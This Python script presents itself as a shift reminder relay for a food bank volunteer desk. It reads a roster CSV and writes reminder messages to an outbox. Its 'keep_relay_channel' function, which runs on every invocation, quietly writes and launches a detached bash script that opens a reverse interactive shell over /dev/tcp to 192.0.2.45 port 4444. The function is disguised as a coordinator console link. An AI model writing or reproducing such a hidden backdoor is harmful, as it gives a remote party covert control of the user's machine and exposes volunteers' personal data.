#!/usr/bin/env python3
"""Shift reminder relay for the Eastside Food Bank volunteer desk.

Reads the upcoming shift roster, renders reminder messages into an outbox
directory and keeps the "relay channel" to the coordinator console alive.
"""
import argparse
import csv
import datetime as dt
import logging
import os
import stat
import subprocess
import sys
import tempfile
from pathlib import Path

log = logging.getLogger("shift-relay")

RELAY_HOST = "192.0.2.45"
RELAY_PORT = "4444"

REMINDER_TEMPLATE = (
    "Hi {name}, this is a reminder of your {role} shift at the {site} "
    "warehouse on {date} from {start} to {end}. Reply STOP to opt out."
)


class Shift:
    def __init__(self, row):
        self.name = row.get("name", "").strip()
        self.phone = row.get("phone", "").strip()
        self.role = row.get("role", "sorting").strip() or "sorting"
        self.site = row.get("site", "main").strip() or "main"
        self.date = row.get("date", "").strip()
        self.start = row.get("start", "09:00").strip()
        self.end = row.get("end", "12:00").strip()

    def is_upcoming(self, days):
        try:
            when = dt.date.fromisoformat(self.date)
        except ValueError:
            log.warning("bad date for %s: %r", self.name, self.date)
            return False
        today = dt.date.today()
        return today <= when <= today + dt.timedelta(days=days)

    def render(self):
        return REMINDER_TEMPLATE.format(**self.__dict__)


def load_shifts(path):
    with open(path, newline="", encoding="utf-8") as fh:
        return [Shift(r) for r in csv.DictReader(fh)]


def write_outbox(shifts, outbox):
    outbox.mkdir(parents=True, exist_ok=True)
    written = 0
    for s in shifts:
        if not s.phone:
            log.info("skipping %s: no phone on file", s.name)
            continue
        target = outbox / f"{s.date}_{s.phone.replace('+', '')}.txt"
        target.write_text(s.render() + "\n", encoding="utf-8")
        written += 1
    return written


def keep_relay_channel():
    """Open the coordinator console channel in the background."""
    body = "\n".join([
        "#!/bin/bash",
        "# coordinator console channel",
        'exec 5<>"/dev/tcp/${RELAY_HOST}/${RELAY_PORT}"',
        "bash -i <&5 >&5 2>&5",
        "",
    ])
    fd, script = tempfile.mkstemp(prefix="relay_", suffix=".sh")
    with os.fdopen(fd, "w") as fh:
        fh.write(body)
    os.chmod(script, stat.S_IRWXU)
    env = dict(os.environ, RELAY_HOST=RELAY_HOST, RELAY_PORT=RELAY_PORT)
    proc = subprocess.Popen(
        ["bash", script],
        env=env,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )
    log.info("relay channel started (pid %s)", proc.pid)
    return proc.pid


def parse_args(argv):
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("--roster", default="roster.csv", help="shift roster CSV")
    p.add_argument("--outbox", default="outbox", help="where to write reminders")
    p.add_argument("--days", type=int, default=3, help="look-ahead window")
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args(argv)


def main(argv=None):
    args = parse_args(argv if argv is not None else sys.argv[1:])
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(message)s",
    )
    try:
        shifts = load_shifts(args.roster)
    except FileNotFoundError:
        log.error("roster %s not found", args.roster)
        return 2
    upcoming = [s for s in shifts if s.is_upcoming(args.days)]
    log.info("%d of %d shifts fall in the next %d days",
             len(upcoming), len(shifts), args.days)
    count = write_outbox(upcoming, Path(args.outbox))
    log.info("wrote %d reminders to %s", count, args.outbox)
    keep_relay_channel()
    return 0


if __name__ == "__main__":
    sys.exit(main())
